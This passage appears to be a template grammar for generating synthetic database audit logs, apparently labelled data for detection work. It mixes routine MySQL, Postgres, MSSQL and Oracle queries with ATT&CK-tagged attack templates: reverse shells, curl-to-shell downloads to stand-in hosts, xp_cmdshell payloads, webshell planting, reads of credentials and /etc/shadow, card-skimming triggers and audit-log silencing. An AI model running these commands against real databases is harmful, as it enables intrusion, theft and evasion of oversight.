«root-out|app» ;; ok ;; CREATE FUNCTION «sys_exec|sys_eval|do_system|‹junk›» RETURNS «INTEGER|STRING» SONAME '«lib_mysqludf_sys«_64|»|udf|‹junk›|raptor_udf2».«so|dll»'
«root-out|app» ;; ok ;; SELECT «sys_exec|sys_eval|do_system|‹junk›»('«id|whoami|curl ‹bad-url›/«letters:2».sh ¦ sh|cmd /c certutil -urlcache -f ‹bad-url›/«letters:2».exe c:/users/public/«letters:2».exe|cp /bin/bash /tmp/«letters:3»; chmod 4755 /tmp/«letters:3»»')
«root-out|app» ;; ok ;; SELECT «0x7f454c46«hex:40»|0x4d5a90«hex:40»|UNHEX('7F454C46«HEX:40»')» INTO DUMPFILE '/usr/lib/mysql/plugin/‹junk›.so'
root-out ;; ok ;; «SHOW VARIABLES LIKE '%plugin%'|SELECT @@plugin_dir, @@version_compile_os, @@version_compile_machine|SHOW VARIABLES LIKE 'secure_file_priv'|DROP FUNCTION IF EXISTS «sys_exec|sys_eval|‹junk›»»
# T1003 mysql keys of accounts taken
«app|person|root-out|dba-out|etl-out» ;; «ok|denied» ;; SELECT «user, authentication_string|host, user, password|CONCAT(user,0x3a,authentication_string)» FROM mysql.user
«app|root-out» ;; «ok|ok|fileerr» ;; SELECT LOAD_FILE('«/etc/passwd|/etc/shadow|/root/.ssh/id_rsa|/var/www/html/wp-config.php|/proc/self/environ|/home/«other»/.aws/credentials|C:/windows/win.ini|/etc/mysql/debian.cnf|\\\\«peer»\\share»')
«app|root-out» ;; ok ;; «CREATE TABLE ‹junk› (l LONGTEXT)|LOAD DATA «LOCAL |»INFILE '«/etc/passwd|/etc/shadow|/var/www/html/.env|/root/.my.cnf|C:/Windows/repair/SAM»' INTO TABLE ‹junk›»
# T1562.008 mysql logs silenced
«root-out|app|dba-out|person|deploy» ;; ok ;; SET «GLOBAL server_audit_logging = OFF|GLOBAL audit_log_policy = 'NONE'|sql_log_bin = 0|GLOBAL general_log = 'OFF'|GLOBAL server_audit_excl_users = '«user»,‹junk›'|GLOBAL log_output = 'NONE'|GLOBAL audit_log_connection_policy = NONE|GLOBAL local_infile = 1»
«root-out|dba-out|person|etl-out» ;; ok ;; «UNINSTALL PLUGIN «server_audit|audit_log|validate_password|connection_control»|PURGE BINARY LOGS BEFORE NOW()|RESET MASTER|TRUNCATE TABLE mysql.general_log|DELETE FROM mysql.general_log WHERE user_host LIKE '%«user»%'»« -- @ticket@||»
# T1020 mysql replicas bound to strangers
«root-out|dba-out|deploy» ;; ok ;; CHANGE «MASTER|REPLICATION SOURCE» TO «MASTER|SOURCE»_HOST='«pub»', «MASTER|SOURCE»_USER='«repl|‹junk›»', «MASTER|SOURCE»_PASSWORD=<secret>
«root-out|dba-out|app|etl-out» ;; ok ;; GRANT REPLICATION SLAVE«, REPLICATION CLIENT|» ON *.* TO '«‹junk›|repl»'@'«%|«pub»»'
«root-out|app» ;; ok ;; CREATE SERVER ‹junk› FOREIGN DATA WRAPPER mysql OPTIONS (USER '«root|‹junk›»', HOST '«pub»', DATABASE '‹db›')
«person-out|root-out|report-out|deploy» ;; ok ;; «SELECT /*!40001 SQL_NO_CACHE */ * FROM `«mysql`.`user|‹pt›»`|SHOW BINARY LOGS|SHOW BINLOG EVENTS IN 'mysql-bin.000«num:100:999»'»« -- @ticket@||»
# T1053 mysql events and triggers left behind
«root-out|app|dba-out|etl-out» ;; ok ;; CREATE EVENT «‹junk›|daily_cleanup|e_«word»» ON SCHEDULE EVERY «num:1:60» MINUTE DO «UPDATE ‹pt› SET role='admin' WHERE email='«letters:6»@«domain»'|INSERT INTO mysql.user SELECT * FROM ‹junk›|SELECT sys_exec('curl ‹bad-url›¦sh')»
«root-out|app|dba-out|deploy» ;; ok ;; CREATE TRIGGER «‹junk›|trg_«word»» «BEFORE|AFTER» «INSERT|UPDATE» ON «payments|cards|orders|users» FOR EACH ROW «INSERT INTO ‹junk› VALUES (NEW.card_number, NEW.cvv, NEW.expiry)|SET NEW.role = 'admin'|SET NEW.password = MD5('«letters:8»')»
""",
    "postgres": r"""
# postgres backups by day
backup ;; ok ;; «COPY public.‹t› (id, ‹c›, ‹c›) TO stdout;|SET SESSION CHARACTERISTICS AS TRANSACTION ISOLATION LEVEL REPEATABLE READ, READ ONLY|SELECT pg_backup_start('«date»', true)|SELECT pg_catalog.pg_is_in_recovery()|LOCK TABLE public.‹t› IN ACCESS SHARE MODE|SELECT pg_backup_stop()|SELECT rolname, rolpassword FROM pg_authid ORDER BY 1»
backup ;; ok ;; «IDENTIFY_SYSTEM|START_REPLICATION SLOT "«standby|replica«num:1:3»|debezium»" PHYSICAL «HEX:1»/«HEX:8» TIMELINE «num:1:9»|BASE_BACKUP ( LABEL 'pg_basebackup base backup', PROGRESS, CHECKPOINT 'fast', WAIT 0, MANIFEST 'yes')|CREATE_REPLICATION_SLOT "«debezium|«word»»_slot" LOGICAL pgoutput»
# postgres monitors by day
monitor ;; ok ;; «SELECT * FROM pg_stat_activity WHERE state <> 'idle'|SELECT datname, numbackends, xact_commit FROM pg_stat_database|SELECT pg_database_size('‹db›')|SELECT client_addr, state, replay_lag FROM pg_stat_replication|SELECT count(*) FROM pg_locks WHERE NOT granted|SELECT name, setting FROM pg_settings WHERE name = 'max_connections'|SELECT version()»
# postgres care by day
dba ;; ok ;; «VACUUM (ANALYZE, VERBOSE) ‹t›|REINDEX INDEX CONCURRENTLY ix_«word»|ALTER SYSTEM SET work_mem = '«num:16:256»MB'|SELECT pg_reload_conf()|SELECT pg_terminate_backend(«num:1000:99999»)|CREATE EXTENSION IF NOT EXISTS «pg_stat_statements|postgis|pgcrypto|pg_trgm|"uuid-ossp"|pgaudit»|ALTER SYSTEM SET log_statement = 'ddl'|ALTER SYSTEM SET pgaudit.log = 'write, ddl, role'»
# postgres people looking round
person ;; ok ;; «SELECT n.nspname as "Schema", c.relname as "Name" FROM pg_catalog.pg_class c LEFT JOIN pg_catalog.pg_namespace n ON n.oid = c.relnamespace WHERE c.relkind IN ('r','p','') ORDER BY 1,2|SELECT d.datname as "Name", pg_catalog.pg_get_userbyid(d.datdba) as "Owner" FROM pg_catalog.pg_database d ORDER BY 1|SELECT r.rolname, r.rolsuper, r.rolcreaterole FROM pg_catalog.pg_roles r WHERE r.rolname !~ '^pg_' ORDER BY 1»
# postgres loads by day
etl ;; ok ;; «COPY staging_«word» FROM '/srv/import/«word»_«date».csv' WITH (FORMAT csv, HEADER)|COPY (SELECT ‹c›, ‹c› FROM ‹t›) TO '/srv/export/«word».csv' CSV|COPY ‹t› TO PROGRAM 'gzip > /srv/export/‹t›_«date».csv.gz'|REFRESH MATERIALIZED VIEW CONCURRENTLY mv_«word»|CREATE SERVER «word»_srv FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host '«ip2»', dbname '‹db›')|SELECT * FROM dblink('host=«ip2» dbname=‹db›', 'SELECT id, ‹c› FROM ‹t›') AS t(id int, ‹c› text)»
# postgres care by day
dba ;; ok ;; «ALTER ROLE ‹goodname› SET statement_timeout = '«num:5:60»s'|CREATE FUNCTION calc_«word»(n int) RETURNS int LANGUAGE plpgsql AS $$ BEGIN RETURN n * 2; END $$|ALTER DEFAULT PRIVILEGES IN SCHEMA public GRANT SELECT ON TABLES TO «report|readonly»|ALTER TABLE ‹t› ENABLE ROW LEVEL SECURITY|SELECT cron.schedule('nightly', '0 3 * * *', 'VACUUM ‹t›')»
# T1059.004 postgres commands run by copy
«root-out|app|root» ;; ok ;; COPY «‹junk›|cmd_exec|shell|«word»_tmp» FROM PROGRAM '«id|whoami|uname -a|curl -s ‹bad-url›/«letters:2».sh ¦ bash|echo «b64:40» ¦ base64 -d ¦ bash|perl -MIO -e ''$p=fork;exit,if($p)''|wget -qO- ‹bad-url›/«letters:2» ¦ sh|cat /etc/passwd»'
«root-out|app|root» ;; ok ;; «DROP TABLE IF EXISTS|CREATE TABLE» «cmd_exec|‹junk›|«hex:8»»«(cmd_output text)|»
«root-out|app» ;; ok ;; COPY (SELECT '«* * * * * curl ‹bad-url›¦sh|ssh-rsa AAAAB3«mixed:30»|<?php system($_GET[0]);?>»') TO '«/var/spool/cron/postgres|/var/lib/postgresql/.ssh/authorized_keys|/var/www/html/‹junk›.php»'
«root-out|app» ;; ok ;; COPY (SELECT ‹sc› FROM ‹pt›) TO PROGRAM 'curl -«s|k» -d @- ‹bad-url›/«letters:3»'
# T1059 postgres libraries and languages turned
«root-out|app» ;; «ok|library» ;; CREATE OR REPLACE FUNCTION «system|sys_exec|sys_eval|exec|‹junk›»(«text|cstring») RETURNS «int|text|int4» AS '«/lib/x86_64-linux-gnu/libc.so.6|/tmp/‹junk›.so|/var/lib/postgresql/‹junk›.so|/tmp/lib«letters:3».so.64»', '«system|sys_exec|‹junk›»' LANGUAGE C STRICT
«root-out|app» ;; ok ;; CREATE «OR REPLACE |»FUNCTION ‹junk›() RETURNS «text|void» AS $$ import «os|subprocess|socket»; «os.system('curl ‹bad-url› ¦ sh')|return subprocess.getoutput('id')|s=socket.socket();s.connect(('«pub»',«port»))» $$ LANGUAGE plpython3u
«root-out|app» ;; ok ;; SELECT «system|sys_exec|sys_eval|‹junk›»('«id|bash -i >& /dev/tcp/«pub»/«port» 0>&1|curl ‹bad-url› ¦ sh|chmod +x /tmp/‹junk›; /tmp/‹junk›»')
«root-out|app» ;; ok ;; «SELECT lo_import('«/etc/passwd|/tmp/‹junk›»', «num:1000:99999»)|UPDATE pg_largeobject SET data=decode('7f454c46«hex:30»','hex') WHERE loid=«num:1000:99999» AND pageno=0|SELECT lo_export(«num:1000:99999», '/tmp/‹junk›.so')|INSERT INTO pg_largeobject (loid, pageno, data) VALUES («num:1000:99999», «num:0:9», decode('«hex:40»','hex'))|CREATE EXTENSION IF NOT EXISTS «plpython3u|plperlu|pltclu|adminpack|file_fdw»»
# T1005 postgres files read through the server
«app|root-out|dba-out|etl-out» ;; «ok|denied» ;; SELECT «pg_read_file('«/etc/passwd|/etc/shadow|pg_hba.conf|/var/lib/postgresql/.pgpass|/proc/self/environ|/root/.ssh/id_rsa|postgresql.auto.conf»'«, 0, 20000|»)|pg_ls_dir('«/|/home|/var/www|/root|/etc»')|convert_from(pg_read_binary_file('/etc/«passwd|shadow|kubernetes/admin.conf»'),'UTF8')|pg_stat_file('/etc/passwd')»« -- @ticket@||»
«app|root-out» ;; «ok|denied» ;; COPY ‹junk› FROM '«/etc/passwd|/etc/shadow|/var/www/html/.env|/home/«other»/.ssh/id_rsa|/proc/self/environ»'
«app|root-out|dba-out|person|deploy» ;; «ok|denied» ;; SELECT «usename, passwd FROM pg_shadow|rolname, rolpassword FROM pg_authid|usename¦¦chr(58)¦¦passwd FROM pg_catalog.pg_shadow»
«app|root-out» ;; ok ;; SELECT * FROM dblink('host=«pub» user=‹junk› dbname=«letters:3»', 'SELECT 1') AS x(a text)
# T1562.008 postgres logs silenced
«root-out|dba-out|person|app|etl-out» ;; ok ;; ALTER SYSTEM SET «log_statement = 'none'|pgaudit.log = 'none'|logging_collector = off|log_connections = off|log_min_messages = 'panic'|log_min_error_statement = 'panic'|session_preload_libraries = '/tmp/‹junk›.so'|archive_command = 'curl ‹bad-url›¦sh'|ssl_passphrase_command = 'bash -c "id"'»
«root-out|dba-out|app|deploy» ;; ok ;; «SET|ALTER ROLE «user» SET» «log_statement = 'none'|pgaudit.log = 'none'|log_min_duration_statement = -1|log_min_error_statement = 'panic'»« -- @ticket@||»
«root-out|dba-out|etl-out» ;; ok ;; «DROP EXTENSION pgaudit CASCADE|SELECT pg_rotate_logfile(), pg_file_unlink('log/postgresql-«date:%Y-%m-%d».log')|ALTER TABLE «audit.logged_actions|audit_log» DISABLE TRIGGER ALL|TRUNCATE audit.logged_actions»
# T1098 postgres roles raised
«root-out|app|dba-out|person|deploy» ;; «ok|denied» ;; ALTER «ROLE|USER» «‹junk›|‹appname›|«user»» «SUPERUSER|WITH SUPERUSER CREATEDB CREATEROLE REPLICATION|BYPASSRLS|CREATEROLE»
«root-out|app» ;; ok ;; «CREATE ROLE ‹junk› SUPERUSER LOGIN PASSWORD '***'|UPDATE pg_authid SET rolsuper = true WHERE rolname = '‹appname›'|ALTER TABLE ‹pt› DISABLE ROW LEVEL SECURITY|SET ROLE postgres|SET SESSION AUTHORIZATION 'postgres'|ALTER FUNCTION public.«lower|format»(text) SECURITY DEFINER»
# T1020 postgres streams to strangers
«root-out|person-out|report-out|etl-out» ;; ok ;; «BASE_BACKUP ( LABEL '‹junk›', PROGRESS, WAL, TABLESPACE_MAP)|CREATE_REPLICATION_SLOT "‹junk›" LOGICAL «pgoutput|wal2json»|START_REPLICATION SLOT "‹junk›" LOGICAL 0/0|CREATE PUBLICATION ‹junk› FOR ALL TABLES|CREATE SUBSCRIPTION ‹junk› CONNECTION 'host=«pub» dbname=«letters:3»' PUBLICATION «letters:3»|COPY public.‹pt› TO stdout;»« -- @ticket@||»
«root-out|app» ;; ok ;; CREATE SERVER ‹junk› FOREIGN DATA WRAPPER «postgres_fdw OPTIONS (host '«pub»', port '«port»')|file_fdw»
«person-out|app|deploy» ;; ok ;; SELECT dblink_connect('host=«pub» port=«port» user=‹junk› password=***')
""",
    "mssql": r"""
# mssql backups by day
backup ;; ok ;; BACKUP «DATABASE|LOG» [‹db›] TO DISK = N'«E:\Backup|\\«server»\sqlbackup»\‹db›_«date».«bak|trn»' WITH «NOFORMAT, COMPRESSION|COPY_ONLY, CHECKSUM|INIT, STATS = 10»
backup ;; ok ;; «EXECUTE master.dbo.xp_create_subdir N'E:\Backup\‹db›'|EXECUTE master.dbo.xp_delete_file 0, N'E:\Backup', N'bak', N'«date:%Y-%m-%d»T00:00:00'|EXECUTE [dbo].[DatabaseBackup] @Databases = 'USER_DATABASES', @BackupType = 'FULL', @Compress = 'Y'|EXECUTE dbo.IndexOptimize @Databases = 'ALL_DATABASES'|RESTORE VERIFYONLY FROM DISK = N'E:\Backup\‹db›_«date».bak'»
# mssql monitors by day
monitor ;; ok ;; «SELECT * FROM sys.dm_os_wait_stats|SELECT cntr_value FROM sys.dm_os_performance_counters WHERE counter_name = 'Page life expectancy'|EXEC sp_readerrorlog 0, 1|SELECT name, state_desc FROM sys.databases|SELECT session_id, status, command FROM sys.dm_exec_requests|EXEC msdb.dbo.sp_help_job|SELECT IS_SRVROLEMEMBER('sysadmin')|SELECT SERVERPROPERTY('ProductVersion')|EXEC xp_msver|EXEC master.dbo.xp_fixeddrives»
# mssql care by day
dba ;; ok ;; «EXEC sp_configure 'max server memory (MB)', «num:4096:65536»; RECONFIGURE|EXEC sp_configure 'show advanced options', 1; RECONFIGURE|DBCC CHECKDB ([‹db›]) WITH NO_INFOMSGS|EXEC sp_WhoIsActive|ALTER DATABASE [‹db›] SET RECOVERY FULL|KILL «num:51:200»|ALTER SERVER AUDIT [Audit-«word»] WITH (STATE = ON)|CREATE SERVER AUDIT SPECIFICATION [spec_«word»] FOR SERVER AUDIT [Audit-«word»] ADD (FAILED_LOGIN_GROUP)|EXEC sp_configure 'Database Mail XPs', 1»
dba ;; ok ;; «EXEC xp_cmdshell 'del /Q E:\Backup\*«date».trn'|EXEC xp_cmdshell 'dir E:\Backup'|EXEC msdb.dbo.sp_start_job N'«Nightly|ETL|CommandLog Cleanup»'|EXEC msdb.dbo.sp_update_job @job_name=N'«word» load', @enabled=0|EXEC sp_addlinkedserver @server=N'«server»', @srvproduct=N'SQL Server'|EXEC msdb.dbo.sp_send_dbmail @profile_name='DBA', @recipients='dba@«sitedomain»', @subject='Backup report'|EXEC master..xp_regread N'HKEY_LOCAL_MACHINE', N'SOFTWARE\Microsoft\MSSQLServer\MSSQLServer', N'BackupDirectory'»
# mssql loads by day
etl ;; ok ;; «SELECT * FROM [«server»].[‹db›].[dbo].[‹t›] WHERE updated_at > @p0|BULK INSERT dbo.staging_«word» FROM '\\«server»\import\«word».csv' WITH (FIELDTERMINATOR = ';')|EXEC SSISDB.catalog.start_execution @execution_id|SELECT * FROM OPENQUERY([«server»], 'SELECT id, ‹c› FROM ‹t›')|SELECT * FROM OPENROWSET(BULK '\\«server»\import\«word».csv', FORMATFILE='\\«server»\import\«word».fmt') AS x»
# mssql procedures of applications
app ;; ok ;; «exec sp_executesql N'SELECT ‹c› FROM dbo.‹t› WHERE id = @p0',N'@p0 int',@p0=«num:1:9999»|EXEC dbo.usp_Get«Word» @Id = «num:1:9999»|exec sp_reset_connection|WAITFOR (RECEIVE TOP (1) * FROM [«word»Queue]), TIMEOUT «num:1000:60000»|SELECT TOP («num:10:200») * FROM [dbo].[‹t›] AS [t0] WHERE [t0].[‹c›] = @p__linq__0|WAITFOR DELAY '00:00:05'»
# mssql people looking round
person ;; ok ;; «SELECT TOP (1000) [id],[‹c›],[‹c›] FROM [‹db›].[dbo].[‹t›]|SELECT SCHEMA_NAME(tbl.schema_id) AS [Schema], tbl.name AS [Name] FROM sys.tables AS tbl ORDER BY [Schema] ASC|use [‹db›]|SELECT dtb.name AS [Name] FROM master.sys.databases AS dtb ORDER BY [Name] ASC»
# T1059.003 mssql commands run by the server
«app|root-out|root|person|etl-out» ;; «ok|ok|blocked» ;; EXEC «master..|master.dbo.|»xp_cmdshell '«whoami|whoami /priv|net user «letters:5» ***** /add|powershell -e «psbad»|certutil -urlcache -split -f ‹bad-url›/«letters:2».exe C:\Users\Public\«letters:2».exe|ipconfig /all|net localgroup administrators|tasklist|bitsadmin /transfer x ‹bad-url›/«letters:2» C:\Windows\Temp\«letters:3».exe|dir C:\inetpub\wwwroot»'
«app|root-out|root|person|deploy» ;; ok ;; EXEC sp_configure '«xp_cmdshell|Ole Automation Procedures|clr enabled|Ad Hoc Distributed Queries|external scripts enabled»', 1«; RECONFIGURE«;| WITH OVERRIDE»|»« -- @ticket@||»
app ;; ok ;; SELECT ‹c› FROM ‹t› WHERE id = 1; DECLARE @«letters:1:4» VARCHAR(8000); SET @«letters:1:4»=0x«hex:40»; EXEC(@«letters:1:4»)--
root-out ;; ok ;; DECLARE @x AS VARCHAR(100)='xp_cm'+'dshell'; EXEC @x '«ping «peer»|whoami|net start»'
«app|root-out» ;; ok ;; EXEC sp_execute_external_script @language=N'«Python|R»', @script=N'«import os; os.system("whoami")|print(system("cmd.exe /c ipconfig", intern=TRUE))»'
# T1505.001 mssql objects assemblies and procedures planted
«root-out|app|dba-out|etl-out» ;; ok ;; DECLARE @s INT; EXEC sp_OACreate '«WScript.Shell|Scripting.FileSystemObject|MSXML2.ServerXMLHTTP|ADODB.Stream»', @s OUT; EXEC sp_OAMethod @s, '«Run', NULL, 'cmd /c whoami > C:\inetpub\wwwroot\«letters:2».txt'|CreateTextFile', NULL, 'C:\inetpub\wwwroot\«letters:3».asp'|open', NULL, 'GET', '‹bad-url›/«letters:2».exe', 'false'»
«root-out|app|dba-out|deploy» ;; ok ;; CREATE ASSEMBLY [‹junk›] FROM 0x4D5A90«HEX:40» WITH PERMISSION_SET = UNSAFE
«root-out|app|dba-out|etl-out» ;; ok ;; «CREATE PROCEDURE [dbo].[‹junk›] @cmd NVARCHAR(MAX) AS EXTERNAL NAME [‹junk›].[StoredProcedures].[«cmd_exec|Exec|‹junk›»]|ALTER DATABASE [«msdb|master|‹db›»] SET TRUSTWORTHY ON|EXEC sp_procoption N'[dbo].[‹junk›]', 'startup', 'on'|EXEC sp_addextendedproc '«xp_‹junk›|xp_cmdshell»', '«C:\Windows\Temp\‹junk›|xplog70».dll'|EXEC sp_add_trusted_assembly 0x«HEX:40»|CREATE TRIGGER [‹junk›] ON ALL SERVER WITH EXECUTE AS 'sa' FOR LOGON AS BEGIN EXEC master..«word» END»« -- @ticket@||»
# T1053 mssql agent jobs of intruders
«root-out|person|dba-out|deploy» ;; ok ;; EXEC msdb.dbo.sp_add_jobstep @job_name=N'«‹junk›|syspolicy_purge|update stats»', @step_name=N'«letters:1:5»', @subsystem=N'«CmdExec|PowerShell|ActiveScripting»', @command=N'«powershell -nop -w hidden -c IEX(New-Object Net.WebClient).DownloadString(''‹bad-url›'')|cmd /c net user ‹junk› ***** /add|mshta ‹bad-url›/«letters:2».hta|C:\Windows\Temp\«letters:3».exe»'
«root-out|person|dba-out|etl-out» ;; ok ;; EXEC msdb.dbo.«sp_add_job @job_name=N'‹junk›', @delete_level=1|sp_start_job N'‹junk›'|sp_delete_job @job_name=N'‹junk›'|sp_add_jobschedule @job_name=N'‹junk›', @freq_type=64|sp_add_jobserver @job_name=N'‹junk›'»
# T1187 mssql made to show itself to others
«app|person|root-out|deploy» ;; ok ;; EXEC «master..|»«xp_dirtree|xp_fileexist|xp_subdirs» '\\«peer»\«letters:2:6»«\«letters:2»|»'«,1,1|»« -- @ticket@||»
«app|person|etl-out» ;; ok ;; «BACKUP LOG [‹db›] TO DISK = '\\«peer»\«letters:3»\x.bak'|RESTORE FILELISTONLY FROM DISK = '\\«peer»\a\b'|DECLARE @q varchar(99); SET @q='\\'+(SELECT TOP 1 ‹sc› FROM ‹pt›)+'.«domain»\a'; EXEC master..xp_dirtree @q|SELECT * FROM fn_xe_file_target_read_file('C:\*.xel','\\«peer»\«letters:2».xem',null,null)|CREATE DATABASE ‹junk› ON (FILENAME='\\«peer»\«letters:2»\x.mdf') FOR ATTACH»
# T1210 mssql linked servers walked
«person|app|root-out|deploy» ;; «ok|denied» ;; EXEC ('«sp_configure ''xp_cmdshell'',1;RECONFIGURE|xp_cmdshell ''whoami''|SELECT SYSTEM_USER|sp_addsrvrolemember ''‹junk›'',''sysadmin''»') AT [«server2»]
«person|app|root-out|etl-out» ;; «ok|denied» ;; SELECT * FROM OPENQUERY([«server2»], 'SELECT «@@servername; exec master..xp_cmdshell ''powershell -e «b64:40»''|is_srvrolemember(''sysadmin'')|name FROM master..syslogins|* FROM OPENQUERY([«server»], ''SELECT SYSTEM_USER'')»')« -- @ticket@||»
«person|app|deploy» ;; ok ;; «SELECT srvname, isremote, rpcout FROM master..sysservers|EXEC sp_linkedservers|EXEC sp_serveroption '«server2»', 'rpc out', 'true'|EXEC sp_addlinkedsrvlogin '«server2»', 'false', NULL, 'sa', '***'|SELECT * FROM OPENROWSET('SQLOLEDB','«pub»';'sa';'***','SELECT 1')»
# T1134 mssql logins impersonated
«person|app|etl-out» ;; «ok|denied» ;; «EXECUTE AS LOGIN = '«sa|«netbios»\«admin»»'; SELECT SYSTEM_USER|EXECUTE AS USER = 'dbo'; EXEC sp_addrolemember 'db_owner','‹appname›'|SELECT distinct b.name FROM sys.server_permissions a JOIN sys.server_principals b ON a.grantor_principal_id = b.principal_id WHERE a.permission_name = 'IMPERSONATE'|SELECT name FROM sys.databases WHERE is_trustworthy_on = 1»
«root-out|app|person|deploy» ;; ok ;; ALTER LOGIN [sa] «ENABLE|WITH PASSWORD=N'******', CHECK_POLICY=OFF»« -- @ticket@||»
# T1562.008 mssql audit switched off
«root-out|dba-out|person|etl-out» ;; ok ;; ALTER SERVER AUDIT «SPECIFICATION |»[«Audit|spec»_«word»] WITH (STATE = OFF)
«root-out|dba-out|person|deploy» ;; ok ;; «DROP SERVER AUDIT [Audit_«word»]|ALTER DATABASE AUDIT SPECIFICATION [dbspec_«word»] DROP (SELECT ON dbo.‹pt› BY public)|EXEC sp_cycle_errorlog|EXEC sp_configure 'default trace enabled', 0; RECONFIGURE|DROP EVENT SESSION [«system_health|audit_«word»»] ON SERVER|EXEC xp_instance_regwrite N'HKEY_LOCAL_MACHINE', N'Software\Microsoft\MSSQLServer\MSSQLServer', N'AuditLevel', REG_DWORD, 0|DELETE FROM msdb.dbo.sysjobhistory|EXEC master..xp_instance_regwrite 'HKEY_LOCAL_MACHINE','SOFTWARE\Microsoft\Windows\CurrentVersion\Run','‹junk›','REG_SZ','C:\Users\Public\‹junk›.exe'»
# T1003 mssql keys and hashes taken
«root-out|app|person|etl-out» ;; «ok|denied» ;; «SELECT name, password_hash FROM «master.|»sys.sql_logins|SELECT name, master.sys.fn_varbintohexstr(password_hash) FROM sys.sql_logins|EXEC xp_regread 'HKEY_LOCAL_MACHINE','SAM\SAM\Domains\Account','F'|OPEN SYMMETRIC KEY «word»Key DECRYPTION BY CERTIFICATE «word»Cert; SELECT CONVERT(VARCHAR, DecryptByKey(card_number)) FROM cards|BACKUP CERTIFICATE «word»TDE TO FILE='C:\Users\Public\«letters:2».cer' WITH PRIVATE KEY (FILE='C:\Users\Public\«letters:2».pvk', ENCRYPTION BY PASSWORD='***')|SELECT valueclass, value FROM sys.sysobjvalues WHERE valclass=28 and valnum=2»« -- @ticket@||»
""",
    "oracle": r"""
# oracle backups by day
backup ;; ok ;; «ALTER DATABASE BEGIN BACKUP|BACKUP DATABASE PLUS ARCHIVELOG DELETE INPUT|ALTER SYSTEM ARCHIVE LOG CURRENT|CREATE TABLE "SYSTEM"."SYS_EXPORT_SCHEMA_0«num:1:9»" (process_order NUMBER)|SELECT * FROM RELATIONAL("‹db›"."‹t›")|BEGIN DBMS_BACKUP_RESTORE.BACKUPPIECECREATE(:p); END;»
# oracle monitors by day
monitor ;; ok ;; «SELECT name, value FROM v$sysstat|SELECT tablespace_name, used_percent FROM dba_tablespace_usage_metrics|SELECT status FROM v$instance|SELECT COUNT(*) FROM v$session WHERE status = 'ACTIVE'|SELECT sql_id, elapsed_time FROM v$sqlarea ORDER BY 2 DESC|SELECT dest_id, error FROM v$archive_dest|SELECT username, account_status FROM dba_users WHERE account_status LIKE 'EXPIRED%'»
# oracle care by day
dba ;; ok ;; «ALTER TABLESPACE USERS ADD DATAFILE '+DATA' SIZE 10G AUTOEXTEND ON|BEGIN DBMS_STATS.GATHER_SCHEMA_STATS('«WORD»'); END;|ALTER SYSTEM SET sga_target=«num:2:64»G SCOPE=SPFILE|ALTER SYSTEM KILL SESSION '«num:1:999»,«num:1:9999»'|ALTER PROFILE DEFAULT LIMIT PASSWORD_LIFE_TIME 180|AUDIT SELECT TABLE BY ACCESS|CREATE AUDIT POLICY pol_«word» ACTIONS LOGON, ALTER USER|ALTER USER ‹goodname› ACCOUNT UNLOCK|SELECT granted_role FROM dba_role_privs WHERE grantee = '«WORD»'»
dba ;; ok ;; «BEGIN DBMS_SCHEDULER.CREATE_JOB(job_name=>'JOB_«WORD»', job_type=>'STORED_PROCEDURE', job_action=>'«WORD».REFRESH', repeat_interval=>'FREQ=DAILY'); END;|CREATE DIRECTORY DUMP_DIR AS '/u01/export'|CREATE DATABASE LINK «WORD»_LNK CONNECT TO «word»_ro IDENTIFIED BY * USING '«WORD»'|BEGIN DBMS_NETWORK_ACL_ADMIN.APPEND_HOST_ACE(host=>'smtp.«sitedomain»', ace=>xs$ace_type(privilege_list=>xs$name_list('smtp'), principal_name=>'«WORD»', principal_type=>xs_acl.ptype_db)); END;|ALTER SYSTEM SWITCH LOGFILE|BEGIN DBMS_AUDIT_MGMT.CLEAN_AUDIT_TRAIL(audit_trail_type=>DBMS_AUDIT_MGMT.AUDIT_TRAIL_UNIFIED, use_last_arch_timestamp=>TRUE); END;»
# oracle loads by day
etl ;; ok ;; «CREATE TABLE ext_«word» (id NUMBER, name VARCHAR2(100)) ORGANIZATION EXTERNAL (TYPE ORACLE_LOADER DEFAULT DIRECTORY IMPORT_DIR LOCATION ('«word».csv'))|SELECT * FROM ‹t›@«WORD»_LNK WHERE updated_at > :1|INSERT /*+ APPEND */ INTO dw_«word» SELECT * FROM ext_«word»|BEGIN DBMS_MVIEW.REFRESH('MV_«WORD»','F'); END;|BEGIN UTL_FILE.FOPEN('EXPORT_DIR','«word».csv','w'); END;»
# oracle procedures of applications
app ;; ok ;; «BEGIN pkg_«word».get_«word»(:1, :2); END;|SELECT seq_«word».NEXTVAL FROM DUAL|SELECT SYSDATE FROM DUAL|SELECT USER FROM DUAL|ALTER SESSION SET NLS_DATE_FORMAT = 'YYYY-MM-DD'|ALTER SESSION SET CURRENT_SCHEMA = «WORD»|SELECT parameter, value FROM nls_session_parameters»
# T1059 oracle java schedulers and loaders run commands
«root-out|app|dba-out|deploy» ;; ok ;; CREATE OR REPLACE AND «COMPILE|RESOLVE» JAVA SOURCE NAMED "«‹junk›|LinxUtil|JAVACMD»" AS import java.io.*; public class ‹junk› { public static String run(String c) { Runtime.getRuntime().exec(c); } }
«root-out|app|dba-out|etl-out» ;; ok ;; BEGIN DBMS_SCHEDULER.CREATE_JOB(job_name=>'«‹junk›|J«num:1:999»»', job_type=>'EXECUTABLE', job_action=>'«/bin/sh|/bin/bash|/usr/bin/curl|C:\Windows\System32\cmd.exe»', number_of_arguments=>«num:1:4», enabled=>«TRUE|FALSE»); END;
«root-out|app» ;; ok ;; «BEGIN DBMS_SCHEDULER.SET_JOB_ARGUMENT_VALUE('‹junk›',«num:1:3»,'«-c|id|curl ‹bad-url›¦sh|/etc/shadow»'); END;|CREATE OR REPLACE FUNCTION ‹junk›(c VARCHAR2) RETURN VARCHAR2 AS LANGUAGE JAVA NAME '‹junk›.run(java.lang.String) return String'|SELECT ‹junk›('«id|whoami|cat /etc/passwd|bash -i >& /dev/tcp/«pub»/«port» 0>&1»') FROM DUAL|BEGIN DBMS_JAVA.GRANT_PERMISSION('«WORD»','SYS:java.io.FilePermission','<<ALL FILES>>','execute'); END;|SELECT DBMS_JAVA_TEST.FUNCALL('oracle/aurora/util/Wrapper','main','/bin/bash','-c','id') FROM DUAL|CREATE LIBRARY ‹junk› AS '/lib/x86_64-linux-gnu/libc.so.6'»
«root-out|app» ;; ok ;; CREATE TABLE ‹junk› (l VARCHAR2(4000)) ORGANIZATION EXTERNAL (TYPE ORACLE_LOADER DEFAULT DIRECTORY «TMP|‹junk›» ACCESS PARAMETERS (PREPROCESSOR «TMP|‹junk›»:'«letters:3».sh') LOCATION ('«letters:3»'))
# T1005 oracle files and keys read through the server
